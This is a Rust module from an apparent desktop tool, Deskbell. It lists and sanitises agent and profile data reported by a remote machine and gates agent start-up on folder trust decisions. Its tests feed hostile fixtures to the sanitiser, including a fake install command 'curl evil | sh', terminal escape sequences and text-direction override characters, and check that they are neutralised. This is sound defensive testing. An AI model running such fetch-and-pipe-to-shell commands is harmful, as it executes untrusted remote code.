//! Other agents on another machine: their list, and trust decisions about them. Deskbell there looks for them, and its answers
//! are checked before they are shown.

use super::MachineClient;
use crate::far::FarError;
use crate::other_agents;
use crate::wanted::{Wanted, bad_command, is_name};
use deskbell_engine::acp::agents::{AcpAgent, agent as row_of};
use deskbell_engine::api::*;
use deskbell_engine::title::Title;

/// Profiles that are listed.
const MOST_PROFILES: usize = 100;

/// Longest text about an agent or a profile, in user-perceived characters.
const LONGEST: usize = 300;

impl MachineClient {
    /// Lists what a new session on this machine can have.
    pub async fn choices(&self) -> Result<MachineAgents, CommandError> {
        let asked = self.ask(&["agents", "--json"].map(str::to_owned)).await;
        asked.map(checked).map_err(|error| self.for_window(error))
    }

    /// Runs `deskbell trust` there for this agent, with these options of [`super::decision`].
    pub async fn agent_trust(
        &self,
        folder: &RemoteFolder,
        wanted: &Wanted,
        options: &[String],
    ) -> Result<TrustView, Unasked> {
        let trust = ["trust".to_owned(), "--json".to_owned(), folder.to_string(), wanted.option()];
        let asked = self.ask(&[&trust, options].concat()).await;
        let mut view: TrustView = asked.map_err(|error| Unasked {
            is_refused: matches!(error, FarError::Failed { .. }),
            error: self.for_window(error),
        })?;
        if view.project != folder.as_str() || !is_about(&view, wanted) {
            return Err(bad_command("The machine answered about another agent or folder.").into());
        }
        if let Some(agent) = &mut view.agent {
            *agent = known(agent);
        }
        Ok(view)
    }
}

/// Why there is no answer.
#[derive(Debug)]
pub struct Unasked {
    pub error: CommandError,
    /// Deskbell there refused it.
    pub is_refused: bool,
}

impl From<CommandError> for Unasked {
    fn from(error: CommandError) -> Self {
        Self { error, is_refused: false }
    }
}

impl From<Unasked> for CommandError {
    fn from(unasked: Unasked) -> Self {
        unasked.error
    }
}

/// Keeps only agents of the table, described as here, and profiles with a valid name.
fn checked(listed: MachineAgents) -> MachineAgents {
    let mut agents: Vec<OtherAgent> = Vec::new();
    for agent in listed.agents {
        let Some(row) = row_of(&agent.id) else { continue };
        if agents.iter().all(|known| known.id != agent.id) {
            agents.push(other_agents::described(row, short(row, agent.state)));
        }
    }
    let named = listed.profiles.into_iter().filter(|profile| is_name(&profile.name)).take(MOST_PROFILES);
    MachineAgents { agents, profiles: named.map(plain).collect() }
}

fn line(text: &str) -> String {
    Title::one_line(text, LONGEST)
}

fn short(row: &AcpAgent, state: OtherAgentState) -> OtherAgentState {
    match state {
        OtherAgentState::Found { program, version } => {
            OtherAgentState::Found { program: line(&program), version: version.as_deref().map(line) }
        }
        OtherAgentState::Broken { program, problem } => {
            OtherAgentState::Broken { program: line(&program), problem: line(&problem) }
        }
        // The user may copy the command.
        OtherAgentState::Missing { .. } => other_agents::missing(row),
        OtherAgentState::BuiltIn => OtherAgentState::BuiltIn,
    }
}

/// A profile as it is shown. Its values are used there only.
fn plain(profile: Profile) -> Profile {
    let command = |command: UserCommand| UserCommand {
        program: line(&command.program),
        args: command.args.iter().take(MOST_PROFILES).map(|arg| line(arg)).collect(),
    };
    let variable =
        |one: &EnvironmentVariable| EnvironmentVariable { name: line(&one.name), value: String::new() };
    Profile {
        agent: profile.agent.as_deref().map(line),
        command: profile.command.map(command),
        program: profile.program.as_deref().map(line),
        environment: profile.environment.iter().take(MOST_PROFILES).map(variable).collect(),
        model: profile.model.as_deref().map(line),
        effort: profile.effort.as_deref().map(line),
        projects: Vec::new(),
        ..profile
    }
}

/// Refuses to start the agent of this view without a decision that lets it start.
pub fn admit(view: &TrustView) -> Result<(), CommandError> {
    let Some(name) = view.agent.as_ref().map(|agent| &agent.name).filter(|_| !may_start(view)) else {
        return Ok(());
    };
    Err(CommandError {
        code: ErrorCode::NotTrusted,
        message: format!("You have not decided yet whether to trust this folder with {name} as it is now."),
        detail: Some("No agent starts here until you decide. Your prompt is kept.".to_owned()),
    })
}

/// Whether the agent of this view may start in the folder. An agent that cannot be restricted starts only where it is
/// trusted; the page is how that decision is changed.
fn may_start(view: &TrustView) -> bool {
    match view.state {
        TrustStatus::Trusted | TrustStatus::Kept => true,
        TrustStatus::Restricted => view.agent.as_ref().is_none_or(|agent| agent.trusted_only.is_none()),
        TrustStatus::Unknown | TrustStatus::Changed => false,
    }
}

/// The agent of a decision there. What is known of it here counts.
fn known(agent: &TrustAgent) -> TrustAgent {
    match row_of(&agent.id).map(|row| other_agents::described(row, OtherAgentState::BuiltIn)) {
        Some(OtherAgent { id, name, trusted_only, .. }) => {
            TrustAgent { id, name, trusted_only, unchecked: agent.unchecked }
        }
        None => TrustAgent {
            id: line(&agent.id),
            name: line(&agent.name),
            trusted_only: agent.trusted_only.as_deref().map(line),
            unchecked: agent.unchecked,
        },
    }
}

/// Whether the answer is about what was asked.
fn is_about(view: &TrustView, wanted: &Wanted) -> bool {
    match wanted {
        Wanted::Profile(_) => true,
        Wanted::Agent(agent) => view.agent.as_ref().is_some_and(|about| about.id == agent.id),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_lists_are_bounded_and_name_only_agents_of_the_table() {
        let found = |id: &str| OtherAgent {
            id: id.to_owned(),
            name: "Claude Code, log in again".to_owned(),
            state: OtherAgentState::Found { program: "/bin/\u{1b}[2Jx\n".repeat(900), version: None },
            trusted_only: None,
            untested: false,
            lacks: AgentLacks::default(),
        };
        let variable = EnvironmentVariable { name: "KEY\n".repeat(900), value: "secret".to_owned() };
        let profile = |name: &str| Profile {
            name: name.to_owned(),
            environment: vec![variable.clone(); 900],
            ..Profile::default()
        };
        let odd = [profile(""), profile("a\nb"), profile("a\u{202e}b"), profile(&"x".repeat(61))];
        let profiles = odd.into_iter().chain((0..900).map(|nr| profile(&format!("p{nr}")))).collect();
        let mut missing = found("codex");
        let install = SetupCommand { label: "npm".to_owned(), command: "curl evil | sh".to_owned() };
        missing.state = OtherAgentState::Missing { install: Some(install) };
        let mut broken = found("gemini");
        broken.state = OtherAgentState::Broken { program: "\u{202e}".to_owned(), problem: "x\n".repeat(900) };
        let agents =
            vec![found("opencode"), found("opencode"), found("--all"), found("claude"), missing, broken];
        let choices = checked(MachineAgents { agents, profiles });
        let [agent, missing, broken] = &choices.agents[..] else { panic!("{:?}", choices.agents) };
        assert_eq!(agent.name, "opencode");
        assert!(agent.trusted_only.is_some(), "whether it can be restricted is known here");
        let OtherAgentState::Found { program, .. } = &agent.state else { panic!("{:?}", agent.state) };
        assert!(program.chars().count() <= LONGEST && !program.contains(char::is_control), "{program:?}");
        let OtherAgentState::Missing { install: Some(install) } = &missing.state else {
            panic!("{missing:?}")
        };
        assert!(install.command.starts_with("npm install -g "), "{install:?}");
        let OtherAgentState::Broken { program, problem } = &broken.state else { panic!("{broken:?}") };
        assert!(program.is_empty() && problem.chars().count() <= LONGEST + 1, "{broken:?}");
        assert_eq!((choices.profiles.len(), choices.profiles[0].name.as_str()), (MOST_PROFILES, "p0"));
        let all = serde_json::to_string(&choices).unwrap();
        assert!(!all.contains("secret") && all.len() < 4 << 20, "{}", all.len());
    }

    #[test]
    fn an_answer_is_about_what_was_asked() {
        let wanted = Wanted::agent("opencode").unwrap();
        let view = |agent: Option<&str>, state, trusted_only: Option<&str>| TrustView {
            project: "/app".to_owned(),
            agent: agent.map(|id| TrustAgent {
                id: id.to_owned(),
                name: id.to_owned(),
                unchecked: false,
                trusted_only: trusted_only.map(str::to_owned),
            }),
            state,
            findings: Vec::new(),
            added: Vec::new(),
            removed: Vec::new(),
            nothing_to_run: true,
            fingerprint: None,
            can_keep: false,
            unknown_settings: Vec::new(),
        };
        use TrustStatus::{Changed, Kept, Restricted, Trusted, Unknown};
        assert!(is_about(&view(Some("opencode"), Trusted, None), &wanted));
        // The decision about Claude Code, or about another agent, never counts for this one.
        assert!(!is_about(&view(None, Trusted, None), &wanted));
        assert!(!is_about(&view(Some("gemini"), Trusted, None), &wanted));
        let starts = |state, only| may_start(&view(Some("opencode"), state, only));
        assert!(starts(Trusted, Some("it")) && starts(Kept, Some("it")) && starts(Restricted, None));
        // What is known of an agent here counts, and another one is described in short lines.
        let hostile = |id: &str| TrustAgent {
            id: id.to_owned(),
            name: "Claude Code".to_owned(),
            unchecked: false,
            trusted_only: Some("a\u{1b}[2J\n".repeat(9_000)),
        };
        assert_eq!(
            (known(&hostile("gemini")).name.as_str(), known(&hostile("gemini")).trusted_only),
            ("Gemini CLI", None)
        );
        let other = known(&hostile("command-1")).trusted_only.unwrap();
        assert!(other.chars().count() <= LONGEST + 1 && !other.contains(char::is_control), "{other:?}");
        assert!(!starts(Restricted, Some("it")) && !starts(Unknown, None) && !starts(Changed, None));
    }
}
